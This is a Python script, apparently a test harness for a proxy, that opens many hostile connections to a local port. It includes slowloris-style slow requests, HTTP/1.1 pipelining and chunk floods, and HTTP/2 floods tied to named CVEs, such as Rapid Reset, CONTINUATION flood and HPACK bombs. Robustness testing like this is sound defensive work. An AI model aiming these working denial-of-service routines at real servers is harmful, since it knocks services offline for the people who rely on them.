"""Connections that mean no good, as many as asked for, until they are told to end.

    python hostile.py PORT SECONDS KIND=COUNT [KIND=COUNT ...]

A program of its own, so that what it takes from the machine is not the measuring client's. A
connection that the other side ends is opened again, so that their number stays. Prints how many
connections each kind opened. The slow kinds stay, and do little; the floods do as much as they can:

    silent           says nothing
    slow-head        a byte of a request's head a second
    slow-body        a byte of an upload every two seconds
    slow-reader      asks for 1 MiB and reads 1 KiB of it a second
    pipeliner        20 requests at once, every 16 seconds
    tiny-chunks      50 chunks of one byte every two seconds

    flood-expired    requests that the proxy answers itself, pipelined without end, answers read
    flood-unread     the same, and reads nothing
    flood-connect    a CONNECT that is refused, on a connection of its own each time
    flood-pipelined  requests for 1 KiB, 5,000 at a time, answers read
    flood-chunks     uploads in chunks of one byte
    flood-download   asks for /chunks, which a hostile upstream sends in chunks of one byte
    flood-h2-reset   HTTP/2: requests for 1 KiB that are cancelled at once (CVE-2023-44487)
    flood-h2-cancel  the same, each after it has begun
    flood-h2-wrong   requests, and a frame for which the proxy must reset them (CVE-2025-8671)
    flood-h2-ping    PING without end; flood-h2-settings, -priority, -window, -empty: likewise
                     SETTINGS, PRIORITY, WINDOW_UPDATE, DATA that are empty
    flood-h2-stray   empty DATA and HEADERS on a stream that the proxy has reset
    flood-h2-dribble responses of 1 KiB in frames of one byte, as its windows ask (CVE-2019-9511)
    flood-h2-tiny    uploads in frames of one byte, and four PINGs with each
    flood-h2-blocks  field blocks that never end (CVE-2024-27316)
    flood-h2-bomb    field blocks of 16 KiB that say 48 MiB
    flood-h2-streams 100 requests for 1 KiB at once, again and again, answers read
    flood-h2-unread  the same, and reads nothing

    flood-metrics    asks for /metrics again and again (towards the admin port)
"""

import asyncio
import random
import socket
import struct
import sys
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable
from typing import TypeAlias

import uvloop

Reader: TypeAlias = asyncio.StreamReader
Writer: TypeAlias = asyncio.StreamWriter
Manner = Callable[[Reader, Writer], Awaitable[None]]

_HEAD = b"Host: a\r\nX-Kind: hostile\r\n"
_EXPIRED = b"GET / HTTP/1.1\r\nHost: a\r\nX-Request-Timeout-Ms: 0\r\n\r\n"
_GET = b"GET /1k HTTP/1.1\r\n" + _HEAD + b"\r\n"
_CHUNKED = b"POST /upload HTTP/1.1\r\n" + _HEAD + b"Transfer-Encoding: chunked\r\n\r\n"
_SMALL_BUFFER = 16 * 1024


async def silent(reader: Reader, writer: Writer) -> None:
    await reader.read()


async def slow_head(reader: Reader, writer: Writer) -> None:
    head = b"GET /1k HTTP/1.1\r\n" + _HEAD + b"X-Long: " + b"x" * 10_000
    for at in range(len(head)):
        writer.write(head[at : at + 1])
        if await _ended(reader, 1.0):
            return


async def slow_body(reader: Reader, writer: Writer) -> None:
    writer.write(b"POST /upload HTTP/1.1\r\n" + _HEAD + b"Content-Length: 1000000\r\n\r\n")
    while not await _ended(reader, 2.0):
        writer.write(b"x")


async def slow_reader(reader: Reader, writer: Writer) -> None:
    writer.write(b"GET /1m HTTP/1.1\r\n" + _HEAD + b"\r\n")
    while await reader.read(1024):
        await asyncio.sleep(1.0)


async def pipeliner(reader: Reader, writer: Writer) -> None:
    while True:
        writer.write(_GET * 20)
        if await _ended(reader, 16.0):
            return


async def tiny_chunks(reader: Reader, writer: Writer) -> None:
    writer.write(_CHUNKED)
    while not await _ended(reader, 2.0):
        writer.write(b"1\r\na\r\n" * 50)


async def flood_expired(reader: Reader, writer: Writer) -> None:
    await _flood(reader, writer, _EXPIRED * 2_000)


async def flood_pipelined(reader: Reader, writer: Writer) -> None:
    await _flood(reader, writer, _GET * 5_000)


async def flood_unread(reader: Reader, writer: Writer) -> None:
    while True:
        writer.write(_EXPIRED * 2_000)
        await writer.drain()


async def flood_connect(reader: Reader, writer: Writer) -> None:
    writer.write(b"CONNECT denied.test:1 HTTP/1.1\r\nHost: denied.test:1\r\n\r\n" * 100)
    await reader.read()


async def flood_chunks(reader: Reader, writer: Writer) -> None:
    writer.write(_CHUNKED)
    body = b"1\r\na\r\n" * 20_000
    for _ in range(25):
        writer.write(body)
        await writer.drain()
    writer.write(b"0\r\n\r\n")
    await reader.readuntil(b"\r\n\r\n")


async def flood_download(reader: Reader, writer: Writer) -> None:
    writer.write(b"GET /chunks HTTP/1.1\r\n" + _HEAD + b"\r\n")
    while await reader.read(256 * 1024):
        pass


async def flood_metrics(reader: Reader, writer: Writer) -> None:
    writer.write(b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
    while await reader.read(256 * 1024):
        pass


# --- HTTP/2 -------------------------------------------------------------------------------------


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    size = len(payload)
    return struct.pack(">BHBBL", size >> 16, size & 0xFFFF, kind, flags, stream) + payload


_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0) + _frame(4, 1, 0)
_BLOCK = b"\x82\x86\x04\x03/1k\x01\x01a\x00\x06x-kind\x07hostile"
_INSERTED = b"\x40\x01x\x7f\xa1\x1e" + 4000 * b"v"
_ENDED = 5
"""END_HEADERS and END_STREAM."""


def _request(stream: int) -> bytes:
    return _frame(1, _ENDED, stream, _BLOCK)


def _open_request(stream: int) -> bytes:
    """Its body is still to come."""
    return _frame(1, 4, stream, b"\x83" + _BLOCK[1:])


def _cancel(stream: int) -> bytes:
    return _frame(3, 0, stream, b"\0\0\0\x08")


async def _until_gone(reader: Reader, writer: Writer, data: bytes) -> None:
    """Send it once, and read until the proxy ends the connection, for a second at most."""
    writer.write(_PREFACE + data)
    await writer.drain()
    await _ended(reader, 1.0)


async def flood_h2_reset(reader: Reader, writer: Writer) -> None:
    await _until_gone(reader, writer, b"".join(_request(n) + _cancel(n) for n in range(1, 1000, 2)))


async def flood_h2_cancel(reader: Reader, writer: Writer) -> None:
    writer.write(_PREFACE)
    for stream in range(1, 1000, 2):
        writer.write(_request(stream))
        await asyncio.sleep(0.0005)
        writer.write(_cancel(stream))
    await _ended(reader, 1.0)


async def flood_h2_wrong(reader: Reader, writer: Writer) -> None:
    wrong = bytes(4)  # an increment of 0
    parts = [_request(n) + _frame(8, 0, n, wrong) for n in range(1, 1000, 2)]
    await _until_gone(reader, writer, b"".join(parts))


async def flood_h2_ping(reader: Reader, writer: Writer) -> None:
    await _until_gone(reader, writer, 5_000 * _frame(6, 0, 0, bytes(8)))


async def flood_h2_settings(reader: Reader, writer: Writer) -> None:
    await _until_gone(reader, writer, 5_000 * _frame(4, 0, 0, b"\0\4\0\1\0\0"))


async def flood_h2_priority(reader: Reader, writer: Writer) -> None:
    await _until_gone(reader, writer, 5_000 * _frame(2, 0, 1, bytes(5)))


async def flood_h2_window(reader: Reader, writer: Writer) -> None:
    """Of the connection and of a request that stays open, by turns."""
    one = b"\0\0\0\x01"
    updates = 2_500 * (_frame(8, 0, 0, one) + _frame(8, 0, 1, one))
    await _until_gone(reader, writer, _open_request(1) + updates)


async def flood_h2_empty(reader: Reader, writer: Writer) -> None:
    await _until_gone(reader, writer, _open_request(1) + 5_000 * _frame(0, 0, 1))


async def flood_h2_stray(reader: Reader, writer: Writer) -> None:
    strays = 2_500 * (_frame(0, 0, 1) + _request(1))
    await _until_gone(reader, writer, _open_request(1) + _frame(8, 0, 1, bytes(4)) + strays)


async def flood_h2_dribble(reader: Reader, writer: Writer) -> None:
    writer.write(_PREFACE + _frame(4, 0, 0, b"\0\4\0\0\0\1"))
    streams = range(1, 200, 2)
    writer.write(b"".join(_request(n) for n in streams))
    one = b"\0\0\0\x01"
    updates = b"".join(_frame(8, 0, n, one) for n in streams)
    for _ in range(1024):
        writer.write(updates)
        await reader.read(64 * 1024)
        await writer.drain()


async def flood_h2_tiny(reader: Reader, writer: Writer) -> None:
    writer.write(_PREFACE + _open_request(1))
    piece = 200 * (_frame(0, 0, 1, b"x") + 4 * _frame(6, 0, 0, bytes(8)))
    while not reader.at_eof():
        writer.write(piece)
        await writer.drain()
        await reader.read(64 * 1024)


async def flood_h2_blocks(reader: Reader, writer: Writer) -> None:
    endless = _frame(1, 1, 1, _BLOCK) + 5_000 * _frame(9, 0, 1, b"\x00\x01a\x01b")
    await _until_gone(reader, writer, endless)


async def flood_h2_bomb(reader: Reader, writer: Writer) -> None:
    block = _BLOCK + _INSERTED + 12_000 * b"\xbe"
    await _until_gone(reader, writer, _frame(1, _ENDED, 1, block))


async def flood_h2_streams(reader: Reader, writer: Writer) -> None:
    writer.write(_PREFACE)
    stream = 1
    while True:
        writer.write(b"".join(_request(n) for n in range(stream, stream + 200, 2)))
        stream += 200
        got = 0
        while got < 100 * 1024:
            data = await reader.read(256 * 1024)
            if not data:
                return
            got += len(data)
        writer.write(_frame(8, 0, 0, struct.pack(">L", got)))


async def flood_h2_unread(reader: Reader, writer: Writer) -> None:
    window = _frame(8, 0, 0, b"\x3f\xff\xff\xff")
    writer.write(_PREFACE + window)
    for stream in range(1, 200_000, 2):
        writer.write(_request(stream))
        await writer.drain()


async def _flood(reader: Reader, writer: Writer, data: bytes) -> None:
    """Send it again and again, and read what comes back."""

    async def read() -> None:
        while await reader.read(256 * 1024):
            pass

    reading = asyncio.create_task(read())
    try:
        while not reading.done():
            writer.write(data)
            await writer.drain()
    finally:
        reading.cancel()


async def _ended(reader: Reader, seconds: float) -> bool:
    """Whether the other side ended it meanwhile; what it sent is read and forgotten."""
    try:
        async with asyncio.timeout(seconds):
            while await reader.read(64 * 1024):
                pass
    except TimeoutError:
        return False
    return True


MANNERS: dict[str, Manner] = {
    manner.__name__.replace("_", "-"): manner
    for manner in (
        *(silent, slow_head, slow_body, slow_reader, pipeliner, tiny_chunks),
        *(flood_expired, flood_unread, flood_connect, flood_pipelined, flood_chunks),
        *(flood_download, flood_metrics, flood_h2_reset, flood_h2_cancel, flood_h2_wrong),
        *(flood_h2_ping, flood_h2_settings, flood_h2_priority, flood_h2_blocks, flood_h2_bomb),
        *(flood_h2_streams, flood_h2_unread, flood_h2_window, flood_h2_empty, flood_h2_stray),
        *(flood_h2_dribble, flood_h2_tiny),
    )
}
CROWD = ("silent", "slow-head", "slow-body", "slow-reader", "pipeliner", "tiny-chunks")


async def _stay(port: int, kind: str, opened: Counter[str], first_after: float) -> None:
    """One connection of its kind; whenever it ends, the next one."""
    await asyncio.sleep(first_after)
    while True:
        try:
            async for reader, writer in _connection(port, small=kind == "slow-reader"):
                opened[kind] += 1
                await MANNERS[kind](reader, writer)
        except (OSError, EOFError):
            await asyncio.sleep(random.uniform(0.05, 0.5))


async def _connection(port: int, *, small: bool) -> AsyncIterator[tuple[Reader, Writer]]:
    plain = socket.socket()
    if small:
        plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _SMALL_BUFFER)
    plain.setblocking(False)
    try:
        await asyncio.get_running_loop().sock_connect(plain, ("127.0.0.1", port))
        reader, writer = await asyncio.open_connection(sock=plain, limit=_SMALL_BUFFER)
    except BaseException:
        plain.close()
        raise
    try:
        yield reader, writer
    finally:
        writer.transport.abort()


async def main(port: int, seconds: float, counts: dict[str, int]) -> None:
    opened: Counter[str] = Counter()
    total = sum(counts.values())
    over_seconds = min(5.0, total / 2_000)  # not all in one moment: a crowd, not a SYN flood
    kinds = [kind for kind, count in counts.items() for _ in range(count)]
    random.shuffle(kinds)
    tasks = [
        asyncio.create_task(_stay(port, kind, opened, over_seconds * number / total))
        for number, kind in enumerate(kinds)
    ]
    ended, _ = await asyncio.wait(tasks, timeout=seconds, return_when=asyncio.FIRST_EXCEPTION)
    for task in ended:
        task.result()  # a connection's task never ends: this raises what ended it
    print(dict(opened), flush=True)


if __name__ == "__main__":
    port, seconds, *kinds = sys.argv[1:]
    parsed = {kind: int(count) for kind, _, count in (one.partition("=") for one in kinds)}
    uvloop.run(main(int(port), float(seconds), parsed))
